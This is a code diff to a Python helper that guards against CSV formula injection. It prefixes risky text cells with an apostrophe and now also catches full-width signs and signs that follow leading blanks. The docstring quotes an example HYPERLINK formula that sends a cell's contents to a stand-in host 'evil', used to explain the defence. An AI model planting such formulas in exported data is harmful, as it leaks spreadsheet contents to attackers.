@@ -1,7 +1,8 @@
 """CSV files for download that a spreadsheet cannot turn into formulas (CSV / formula injection).
 
-A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
-formula by Excel, LibreOffice and Google Sheets: an uploaded ``=HYPERLINK("http://evil/?"&A1, "x")``
+A cell whose text starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms ``＝ ＋ － ＠``), a tab or
+a carriage return — also after leading spaces or line breaks — is read as a formula by Excel, LibreOffice and
+Google Sheets: an uploaded ``=HYPERLINK("http://evil/?"&A1, "x")``
 that comes back verbatim in a k-anonymity or linkage table would run when the user opens the
 download. Following the OWASP recommendation, such text cells get a leading apostrophe ``'`` (shown
 as text, never evaluated). Numbers stay numbers: numeric columns are untouched, and a text cell that
@@ -18,13 +19,23 @@ from typing import Any
 
 import pandas as pd
 
-TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# The full-width forms (＝ ＋ － ＠) are read as their ASCII twins by spreadsheets with East-Asian input
+# settings, so they start a formula too.
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+# Spreadsheets skip leading blanks before they look for a formula sign: " =1+1" and "\n=1+1" run as well.
+_LEADING_BLANKS = " \t\r\n\u00a0\u3000"
 _PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
 
 
 def neutralise(value: Any) -> Any:
-    """``value`` with a leading ``'`` if it is text a spreadsheet would evaluate; anything else unchanged."""
-    if isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(value):
+    """``value`` with a leading ``'`` if it is text a spreadsheet would evaluate; anything else unchanged.
+
+    Evaluated: text that starts with a formula sign (``= + - @`` or a full-width ``＝ ＋ － ＠``), a tab or a
+    carriage return, also after leading spaces or line breaks — except a plain decimal number (``-3``)."""
+    if not isinstance(value, str):
+        return value
+    head = value.lstrip(_LEADING_BLANKS)
+    if (value.startswith(TRIGGERS) or head.startswith(TRIGGERS)) and not _PLAIN_NUMBER.match(head):
         return "'" + value
     return value
 
